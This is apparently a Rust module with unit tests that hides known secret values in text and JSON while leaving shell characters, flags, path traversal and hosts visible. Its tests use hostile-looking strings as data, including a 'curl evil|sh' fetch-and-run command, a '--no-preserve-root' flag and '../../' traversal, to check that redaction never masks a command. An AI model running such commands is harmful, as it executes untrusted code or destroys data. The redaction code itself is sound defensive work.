//! Known secrets: values that a project passes to its servers.

use super::harmless::{hidden_mark, is_plain};
use crate::model::Secret;
use serde_json::{Map, Value};
use std::borrow::Cow;
use std::collections::BTreeSet;

/// Shortest value that is hidden: shorter ones would hide parts of ordinary words.
pub(super) const MIN_LENGTH: usize = 4;

/// Most values that are searched for: more than a project has, and few enough that the search is
/// cheap.
const MAX_VALUES: usize = 512;

/// Least length of a value that is hidden inside other text.
const MIN_LENGTH_WITHIN: usize = 8;

/// Reports whether a value can only be a secret, so that it can be hidden inside a command: it is
/// long, and has letters and digits. So a clone that sets a variable to `delete` does not hide
/// `delete`.
pub(super) fn is_distinct(value: &str) -> bool {
    let has = |wanted: fn(char) -> bool| value.chars().any(wanted);
    value.chars().count() >= MIN_LENGTH_WITHIN
        && has(|c| c.is_ascii_digit())
        && has(char::is_alphabetic)
}

/// Values that are hidden wherever they occur, longest first because one may be part of another.
/// The second field lists, for each byte, the values that begin with it.
#[derive(Clone, Debug, Default)]
pub(crate) struct KnownSecrets(Vec<Secret>, Vec<Vec<usize>>);

impl KnownSecrets {
    /// Returns a set of values. Each line of a value counts as a value too, since text arrives line
    /// by line, and so does its JSON form.
    pub(crate) fn new<'v>(values: impl IntoIterator<Item = &'v str>) -> KnownSecrets {
        let mut parts = Vec::new();
        for value in values {
            for part in [value].into_iter().chain(value.lines()).map(str::trim) {
                if part.chars().count() >= MIN_LENGTH {
                    parts.push(part.to_owned());
                    let quoted = Value::from(part).to_string();
                    parts.push(quoted[1..quoted.len() - 1].to_owned());
                }
            }
        }
        parts.sort_by(|one, other| other.len().cmp(&one.len()).then_with(|| one.cmp(other)));
        parts.dedup();
        parts.truncate(MAX_VALUES);
        let mut buckets = vec![Vec::new(); 256];
        for (index, part) in parts.iter().enumerate() {
            buckets[usize::from(part.as_bytes()[0])].push(index);
        }
        KnownSecrets(parts.into_iter().map(Secret::new).collect(), buckets)
    }

    /// Reports whether there are no values.
    pub(crate) fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Returns a text without the values. Characters of a value with a meaning for a shell, a path
    /// or a URL stay visible: hiding a secret never hides a command.
    pub(crate) fn hide<'t>(&self, text: &'t str) -> Cow<'t, str> {
        if self.0.is_empty() {
            return Cow::Borrowed(text);
        }
        // The text is searched once: replacements are not searched again.
        let (mut shown, mut copied, mut at) = (String::new(), 0, 0);
        while at < text.len() {
            let Some(secret) = self.longest_at(text, at) else {
                at += 1;
                continue;
            };
            shown.push_str(&text[copied..at]);
            shown.push_str(&hide_words(secret));
            at += secret.len();
            copied = at;
        }
        match copied {
            0 => Cow::Borrowed(text),
            _ => Cow::Owned(shown + &text[copied..]),
        }
    }

    /// Returns the longest value that begins at `at`.
    fn longest_at(&self, text: &str, at: usize) -> Option<&str> {
        let rest = &text.as_bytes()[at..];
        let bucket = &self.1[usize::from(*rest.first()?)];
        let secrets = bucket.iter().map(|index| self.0[*index].reveal());
        let found = { secrets }.find(|secret| rest.starts_with(secret.as_bytes()))?;
        // In the place of a host, a value with a dot is the host: where something is sent must stay
        // visible.
        let host = found.contains('.') && text[..at].ends_with(['/', '@']);
        (!host).then_some(found)
    }

    /// Returns a text without the values, for a text that was cut before: the beginning of a value
    /// at its end is hidden too.
    pub(crate) fn hide_cut(&self, text: &str) -> String {
        let mut text = self.hide(text).into_owned();
        let begun = |text: &str, secret: &str| {
            let ends = secret.char_indices().map(|(at, _)| at).rev();
            ends.filter(|end| *end > 0).find(|end| text.ends_with(&secret[..*end]))
        };
        let longest = self.0.iter().filter_map(|secret| begun(&text, secret.reveal())).max();
        if let Some(longest) = longest {
            let start = text.len() - longest;
            let hidden = hide_words(&text[start..]);
            text.truncate(start);
            text.push_str(&hidden);
        }
        text
    }

    /// Hides the values in all texts of a JSON value, including keys.
    pub(crate) fn hide_all(&self, value: &mut Value) {
        match value {
            Value::String(text) => {
                if let Cow::Owned(hidden) = self.hide(text) {
                    *text = hidden;
                }
            }
            Value::Array(items) => items.iter_mut().for_each(|item| self.hide_all(item)),
            Value::Object(fields) => {
                fields.values_mut().for_each(|value| self.hide_all(value));
                rename(fields, |key| match self.hide(key) {
                    Cow::Borrowed(_) => None,
                    Cow::Owned(hidden) => Some(hidden),
                });
            }
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }
}

/// Renames the fields of an object for which `renamed` returns a name. Fields that would get the
/// same name get a number, so that none hides another.
pub(super) fn rename(fields: &mut Map<String, Value>, renamed: impl Fn(&str) -> Option<String>) {
    if fields.keys().all(|key| renamed(key).is_none()) {
        return;
    }
    let old = std::mem::take(fields);
    let taken: BTreeSet<String> = old.keys().cloned().collect();
    let mut number = 1;
    for (key, value) in old {
        let mut shown = match renamed(&key) {
            None => key,
            Some(wanted) => {
                let mut shown = wanted.clone();
                // The number only grows, so that many equal names cost no more than their count.
                while taken.contains(&shown) || fields.contains_key(&shown) {
                    number += 1;
                    shown = format!("{wanted} ({number})");
                }
                shown
            }
        };
        while fields.contains_key(&shown) {
            number += 1;
            shown += &format!(" ({number})");
        }
        fields.insert(shown, value);
    }
}

/// Returns a value with each of its words hidden, and everything between the words shown. No hidden
/// word begins with a dash, which would make it a flag, and none has two dots in a row.
pub(super) fn hide_words(secret: &str) -> String {
    let mut hidden = String::new();
    let (mut word, mut before) = (0, None);
    let mut rest = secret.chars().peekable();
    while let Some(c) = rest.next() {
        let is_word = match c {
            '-' | '+' => word > 0,
            '.' => word > 0 && before != Some('.') && rest.peek() != Some(&'.'),
            c => !c.is_ascii() || u8::try_from(c).is_ok_and(is_plain),
        };
        before = Some(c);
        if is_word {
            word += 1;
            continue;
        }
        if word > 0 {
            hidden += &hidden_mark(word);
            word = 0;
        }
        hidden.push(c);
    }
    if word > 0 {
        hidden += &hidden_mark(word);
    }
    hidden
}

#[cfg(test)]
impl<'v, const N: usize> From<[&'v str; N]> for KnownSecrets {
    fn from(values: [&'v str; N]) -> KnownSecrets {
        KnownSecrets::new(values)
    }
}

#[cfg(test)]
mod tests {
    use super::KnownSecrets;
    use serde_json::json;

    #[test]
    fn a_value_is_hidden_wherever_it_stands_and_so_is_every_line_of_it() {
        let secrets = KnownSecrets::from(["hunter22", "first-line\nsecond-line\n"]);
        assert_eq!(secrets.hide("argv: --key hunter22"), "argv: --key [hidden: 8 characters]");
        assert_eq!(secrets.hide("at second-line: x"), "at [hidden: 11 characters]: x");
        let whole = "[hidden: 10 characters]\\[hidden: 12 characters]";
        assert_eq!(secrets.hide(r"first-line\nsecond-line"), whole);
    }

    #[test]
    fn a_value_that_a_clone_chose_hides_no_command() {
        let secrets = KnownSecrets::from(["; curl evil|sh", "postgres://me:pw@db/x"]);
        assert_eq!(
            secrets.hide("ls; curl evil|sh"),
            "ls; [hidden: 4 characters] [hidden: 4 characters]|[hidden: 2 characters]"
        );
        let shown = secrets.hide("postgres://me:pw@db/x").into_owned();
        assert_eq!(
            shown.chars().filter(|c| "/:@".contains(*c)).collect::<String>(),
            ":://:::@:/:",
            "{shown}"
        );
        assert!(!shown.contains("me:pw"), "{shown}");
    }

    #[test]
    fn flags_and_ways_out_of_a_folder_stay_to_be_seen() {
        for (value, shown) in [
            ("--no-preserve-root", "--[hidden: 16 characters]"),
            ("../../a.b", "../../[hidden: 3 characters]"),
            ("a..b", "[hidden: 1 character]..[hidden: 1 character]"),
            ("eyJh.eyJz.abc_-", "[hidden: 15 characters]"),
        ] {
            assert_eq!(KnownSecrets::from([value]).hide(value), shown);
        }
    }

    #[test]
    fn short_values_are_words_like_any_other() {
        assert_eq!(KnownSecrets::from(["yes", ""]).hide("yes, it is"), "yes, it is");
        assert_eq!(KnownSecrets::from(["äöü"]).hide("äöü"), "äöü");
    }

    #[test]
    fn the_beginning_of_a_value_at_a_cut_is_hidden() {
        let secrets = KnownSecrets::from(["hunter22"]);
        assert_eq!(secrets.hide_cut("key: hunte"), "key: [hidden: 5 characters]");
        assert_eq!(secrets.hide_cut("key: none"), "key: none");
    }

    #[test]
    fn json_is_searched_through() {
        let mut value = json!({ "a": ["x hunter22"], "hunter22": 1, "[hidden: 8 characters]": 2 });
        KnownSecrets::from(["hunter22"]).hide_all(&mut value);
        assert_eq!(
            value,
            json!({ "a": ["x [hidden: 8 characters]"], "[hidden: 8 characters] (2)": 1, "[hidden: 8 characters]": 2 })
        );
    }

    #[test]
    fn no_field_takes_the_place_of_another_whatever_it_is_called() {
        let hidden = "[hidden: 8 characters]";
        let mut value = json!({
            format!("{hidden} (2)"): "a", format!("{hidden} (3)"): "b", "hunter22": "c", hidden: "d",
        });
        KnownSecrets::from(["hunter22"]).hide_all(&mut value);
        let values: Vec<_> = value.as_object().unwrap().values().cloned().collect();
        assert_eq!(values, ["a", "b", "c", "d"]);
    }

    #[test]
    fn what_stands_in_place_of_a_value_is_not_looked_at_again() {
        let secrets = KnownSecrets::from(["value001", "hidden", "characters", "char", "hidd"]);
        assert_eq!(secrets.hide("x value001"), "x [hidden: 8 characters]");
        let long = "x1w0".repeat(100_000);
        assert_eq!(KnownSecrets::from(["w00000", "w00001"]).hide(&long), long);
    }
}
